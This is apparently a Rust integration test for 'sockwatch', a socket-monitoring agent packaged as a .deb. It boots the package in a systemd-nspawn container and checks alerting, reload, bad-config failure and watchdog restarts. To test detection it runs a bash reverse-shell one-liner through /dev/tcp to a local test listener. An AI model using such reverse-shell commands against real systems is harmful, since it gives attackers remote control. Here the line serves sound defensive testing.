//! The .deb under a real systemd: a minimal Debian root made with debootstrap (minbase, plus
//! systemd, systemd-sysv, dbus and man-db), the package installed into it with dpkg, booted with
//! `systemd-nspawn --boot` and reached with `nsenter` into its init. Inside: the unit verifies,
//! is active (READY came through Type=notify), a reverse shell started in the container raises an
//! alert in the configured file sink, `systemctl reload` applies a changed rule, a broken config
//! fails the unit with 78 and no restart loop, and the watchdog restarts a SIGSTOPped agent.
//!
//! The container shares the host's network namespace (nspawn's default), so the far ends of the
//! shells are listeners of this test on 127.0.0.1.

use crate::packaging::{output_of, packages};
use crate::util::{KillOnDrop, ScratchDir, prerequisites};
use serde_json::Value;
use std::io::{BufRead, BufReader, Write};
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

const ROOT: &str = env!("CARGO_MANIFEST_DIR");
const SUITE: &str = "bookworm";
const INCLUDE: &str = "systemd,systemd-sysv,dbus,man-db";

/// The Debian mirror apt is configured with here (`URIs:` of a deb822 source, or a one-line
/// `deb` source, for the main archive).
fn mirror() -> String {
    let mut sources = Vec::new();
    for dir in ["/etc/apt/sources.list.d"] {
        for entry in std::fs::read_dir(dir).into_iter().flatten().flatten() {
            sources.extend(std::fs::read_to_string(entry.path()));
        }
    }
    sources.extend(std::fs::read_to_string("/etc/apt/sources.list"));
    for text in &sources {
        for line in text.lines().map(str::trim) {
            let uri = line.strip_prefix("URIs:").or_else(|| {
                line.strip_prefix("deb ")
                    .and_then(|l| l.split_whitespace().find(|w| w.contains("://")))
            });
            if let Some(uri) = uri.map(str::trim).filter(|u| u.ends_with("/debian")) {
                return uri.to_string();
            }
        }
    }
    panic!("no Debian mirror in the apt sources")
}

/// A fresh minimal root in `dir`: unpacked from a tarball of a debootstrap made once (and kept
/// under target/test-tools), so a second run does not download it again.
fn minimal_root(dir: &Path) {
    let cache = Path::new(ROOT)
        .join("target/test-tools")
        .join(format!("{SUITE}-minbase-{}.tar", INCLUDE.replace(',', "+")));
    if !cache.exists() {
        let staging = ScratchDir::new("debootstrap");
        output_of(
            Command::new("debootstrap")
                .args(["--variant=minbase", &format!("--include={INCLUDE}"), SUITE])
                .arg(&staging.path)
                .arg(mirror()),
        );
        let partial = cache.with_extension("tar.partial");
        output_of(
            Command::new("tar")
                .args(["--numeric-owner", "-cf"])
                .arg(&partial)
                .arg("-C")
                .arg(&staging.path)
                .arg("."),
        );
        std::fs::rename(&partial, &cache).unwrap();
    }
    output_of(Command::new("tar").args(["--numeric-owner", "-xpf"]).arg(&cache).arg("-C").arg(dir));
}

/// A booted container: its nspawn process and the host pid of its init.
struct Container {
    nspawn: KillOnDrop,
    init: i32,
    root: PathBuf,
}

impl Container {
    fn boot(root: &Path) -> Container {
        let machine = format!("swtest{}", std::process::id());
        let nspawn = KillOnDrop::new(
            Command::new("systemd-nspawn")
                .args(["--boot", "--register=no", "--keep-unit", "--console=passive"])
                .arg(format!("--machine={machine}"))
                .arg("--directory")
                .arg(root)
                .stdin(Stdio::null())
                .stdout(Stdio::null())
                .stderr(Stdio::null())
                .spawn()
                .expect("systemd-nspawn"),
        );
        let parent = nspawn.0.as_ref().unwrap().id() as i32;
        let deadline = Instant::now() + Duration::from_secs(30);
        let init = loop {
            if let Some(init) = container_init(parent) {
                break init;
            }
            assert!(Instant::now() < deadline, "the container's init did not start");
            std::thread::sleep(Duration::from_millis(100));
        };
        let container = Container { nspawn, init, root: root.to_path_buf() };
        // "running", or "degraded" when some unit of the minimal system failed; nothing, or
        // "offline" (its bus not up yet), while the manager is too young to answer.
        let state = loop {
            let state = container.run(&["systemctl", "is-system-running", "--wait"]);
            if !matches!(state.trim(), "" | "offline") || Instant::now() > deadline {
                break state;
            }
            std::thread::sleep(Duration::from_millis(200));
        };
        assert!(matches!(state.trim(), "running" | "degraded"), "boot ended {state:?}");
        container
    }

    /// A command in all of the init's namespaces; its output, whatever its exit status.
    fn run(&self, args: &[&str]) -> String {
        let output = self.command(args).output().expect("nsenter");
        String::from_utf8_lossy(&output.stdout).into_owned()
    }

    /// A command in all of the init's namespaces; its exit status.
    fn status(&self, args: &[&str]) -> std::process::ExitStatus {
        self.command(args).stdout(Stdio::null()).stderr(Stdio::null()).status().expect("nsenter")
    }

    fn command(&self, args: &[&str]) -> Command {
        let mut command = Command::new("nsenter");
        command.args(["-t", &self.init.to_string(), "-a"]).args(args);
        command
    }

    /// `systemctl show sockwatch -p KEY` values.
    fn unit(&self, key: &str) -> String {
        let shown = self.run(&["systemctl", "show", "sockwatch.service", "-p", key, "--value"]);
        shown.trim().to_string()
    }

    /// Every event the file sink has written so far.
    fn events(&self) -> Vec<Value> {
        let file = self.root.join("var/log/sockwatch/events.ndjson");
        let text = std::fs::read_to_string(file).unwrap_or_default();
        text.lines().map(|l| serde_json::from_str(l).expect("one JSON event per line")).collect()
    }

    fn wait_for_event(&self, what: &str, predicate: impl Fn(&Value) -> bool) -> Value {
        let deadline = Instant::now() + Duration::from_secs(20);
        loop {
            if let Some(found) = self.events().into_iter().find(&predicate) {
                return found;
            }
            assert!(Instant::now() < deadline, "no {what} in the file sink within 20 s");
            std::thread::sleep(Duration::from_millis(200));
        }
    }

    fn wait_for_unit(&self, what: &str, timeout: Duration, done: impl Fn(&Container) -> bool) {
        let deadline = Instant::now() + timeout;
        while !done(self) {
            assert!(Instant::now() < deadline, "{what}: not within {timeout:?}");
            std::thread::sleep(Duration::from_millis(250));
        }
    }
}

impl Drop for Container {
    /// Powers the container off (and waits for nspawn to end), even when a test failed.
    fn drop(&mut self) {
        let _ = self.status(&["systemctl", "poweroff"]);
        if let Some(child) = self.nspawn.0.as_mut() {
            let deadline = Instant::now() + Duration::from_secs(30);
            while child.try_wait().ok().flatten().is_none() && Instant::now() < deadline {
                std::thread::sleep(Duration::from_millis(100));
            }
        }
    }
}

/// The host pid of the process that is pid 1 of a pid namespace below `nspawn`.
fn container_init(nspawn: i32) -> Option<i32> {
    let field = |pid: &str, name: &str| -> Option<String> {
        let status = std::fs::read_to_string(format!("/proc/{pid}/status")).ok()?;
        status.lines().find_map(|l| l.strip_prefix(name).map(|v| v.trim().to_string()))
    };
    for entry in std::fs::read_dir("/proc").ok()?.flatten() {
        let pid = entry.file_name().to_string_lossy().into_owned();
        let Ok(host_pid) = pid.parse::<i32>() else { continue };
        let nspid = field(&pid, "NSpid:").unwrap_or_default();
        if nspid.split_whitespace().last() != Some("1") || nspid.split_whitespace().count() < 2 {
            continue;
        }
        // Below nspawn: its parent, or its parent's parent.
        let mut ancestor = host_pid;
        for _ in 0..3 {
            ancestor = field(&ancestor.to_string(), "PPid:")?.parse().ok()?;
            if ancestor == nspawn {
                return Some(host_pid);
            }
        }
    }
    None
}

/// A bash started in the container with its stdio on a connection to a listener here, answering.
fn container_shell(container: &Container, script: &str) -> (KillOnDrop, std::net::TcpStream, u16) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let script = script.replace("PORT", &port.to_string());
    let shell = KillOnDrop::new(
        container
            .command(&[
                "setpriv",
                "--reuid=1000",
                "--regid=1000",
                "--clear-groups",
                "bash",
                "-c",
                &script,
            ])
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap(),
    );
    let (stream, _) = listener.accept().unwrap();
    stream.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
    (shell, stream, port)
}

fn rule_ids(event: &Value) -> Vec<&str> {
    event["rule"]["id"]
        .as_array()
        .map_or_else(Vec::new, |ids| ids.iter().filter_map(Value::as_str).collect())
}

#[test]
fn the_deb_under_systemd_runs_alerts_reloads_refuses_bad_config_and_is_watched() {
    if !prerequisites(&["debootstrap", "systemd-nspawn", "nsenter", "dpkg-deb", "tar"]) {
        return;
    }
    let (deb, _) = packages();
    let scratch = ScratchDir::new("nspawn");
    let root = scratch.path.join("root");
    std::fs::create_dir_all(&root).unwrap();
    minimal_root(&root);
    std::fs::copy(deb, root.join("tmp/sockwatch.deb")).unwrap();
    output_of(Command::new("chroot").arg(&root).args(["dpkg", "-i", "/tmp/sockwatch.deb"]));
    // Events to a file the test reads from outside; rules reload on `systemctl reload` only, so
    // that a reload is what applies a rule below.
    std::fs::write(
        root.join("etc/sockwatch/conf.d/50-test.toml"),
        "[agent]\ninterval = \"250ms\"\nheartbeat = \"2s\"\n\n[rules]\nwatch = false\n\n\
         [[sinks]]\ntype = \"file\"\npath = \"/var/log/sockwatch/events.ndjson\"\n",
    )
    .unwrap();

    let container = Container::boot(&root);
    let verified =
        container.command(&["systemd-analyze", "verify", "sockwatch.service"]).output().unwrap();
    assert!(
        verified.status.success() && verified.stderr.is_empty(),
        "systemd-analyze verify: {}",
        String::from_utf8_lossy(&verified.stderr)
    );
    // Active means READY=1 arrived: Type=notify, sent after the first completed scan.
    container.wait_for_unit("sockwatch active", Duration::from_secs(20), |c| {
        c.run(&["systemctl", "is-active", "sockwatch.service"]).trim() == "active"
    });
    assert_eq!(container.unit("User"), "sockwatch");
    let started =
        container.wait_for_event("agent_started", |e| e["event"]["action"] == "agent_started");
    // The unit's ProtectProc= gives the service a procfs instance of its own.
    assert_eq!(started["sockwatch"]["procfs"]["private"], true, "{started}");
    assert_eq!(started["sockwatch"]["procfs"]["by"], "service manager", "{started}");
    let privileges = &started["sockwatch"]["privileges"];
    assert_eq!(
        (privileges["sys_ptrace"].as_bool(), privileges["dac_read_search"].as_bool()),
        (Some(true), Some(true))
    );

    // A reverse shell of an unprivileged user inside the container.
    let (_shell, mut stream, port) =
        container_shell(&container, "exec bash -i >& /dev/tcp/127.0.0.1/PORT 0>&1");
    stream.write_all(b"id -u\n").unwrap();
    let mut reader = BufReader::new(stream.try_clone().unwrap());
    assert!((0..20).any(|_| {
        let mut line = String::new();
        reader.read_line(&mut line).is_ok_and(|_| line.trim().ends_with("1000"))
    }));
    let alert = container.wait_for_event("incident_opened for the reverse shell", |e| {
        e["event"]["action"] == "incident_opened" && e["destination"]["port"] == port
    });
    assert!(rule_ids(&alert).contains(&"stdio-outbound-socket"), "{alert}");

    // `systemctl reload` applies a rule added since: a connection already open gains it.
    let (_probe, _probe_stream, probe_port) =
        container_shell(&container, "exec 3<>/dev/tcp/127.0.0.1/PORT; exec sleep 120");
    let carries_probe = |e: &Value| {
        e["event"]["kind"] == "alert"
            && e["destination"]["port"] == probe_port
            && rule_ids(e).contains(&"reload-probe")
    };
    std::thread::sleep(Duration::from_secs(1));
    assert!(!container.events().iter().any(carries_probe), "the rule exists before the reload");
    std::fs::write(
        root.join("etc/sockwatch/rules.local.d/50-probe.toml"),
        format!(
            "[[rule]]\nid = \"reload-probe\"\nname = \"probe\"\nseverity = \"low\"\n\
             condition = \"sock.rport = {probe_port} and sock.state = \\\"ESTABLISHED\\\"\"\n\
             message = \"probe {{proc.pid}}\"\n"
        ),
    )
    .unwrap();
    assert!(container.status(&["systemctl", "reload", "sockwatch.service"]).success());
    container.wait_for_event("an alert from the reloaded rule", carries_probe);

    // A broken config: `systemctl reload` refuses it and the agent runs on untouched...
    let main_pid = container.unit("MainPID");
    let broken = root.join("etc/sockwatch/conf.d/90-broken.toml");
    std::fs::write(&broken, "[agent]\ninterval = \"soon\"\n").unwrap();
    assert!(!container.status(&["systemctl", "reload", "sockwatch.service"]).success());
    assert_eq!(
        (container.unit("MainPID"), container.unit("ActiveState")),
        (main_pid.clone(), "active".into())
    );
    // ...and a restart fails with 78 once, no restart loop.
    assert!(!container.status(&["systemctl", "restart", "sockwatch.service"]).success());
    std::thread::sleep(Duration::from_secs(5)); // longer than RestartSec=2s
    assert_eq!(container.unit("ActiveState"), "failed");
    assert_eq!(container.unit("ExecMainStatus"), "78");
    assert_eq!(container.unit("NRestarts"), "0");
    let journal =
        container.run(&["journalctl", "-u", "sockwatch.service", "--no-pager", "-n", "50"]);
    assert!(journal.contains("90-broken.toml:2:12: bad duration"), "{journal}");
    std::fs::remove_file(&broken).unwrap();
    assert!(container.status(&["systemctl", "start", "sockwatch.service"]).success());

    // The watchdog: pinged after each completed scan, so a stopped agent is killed once
    // WatchdogSec (30 s) and TimeoutAbortSec (5 s) have passed, and restarted.
    let stopped = container.unit("MainPID");
    assert!(container.status(&["bash", "-c", &format!("kill -STOP {stopped}")]).success());
    container.wait_for_unit("a watchdog restart", Duration::from_secs(60), |c| {
        c.unit("NRestarts") == "1"
            && c.unit("ActiveState") == "active"
            && c.unit("MainPID") != stopped
    });
    let journal =
        container.run(&["journalctl", "-u", "sockwatch.service", "--no-pager", "-n", "50"]);
    assert!(journal.contains("Watchdog timeout"), "{journal}");
}
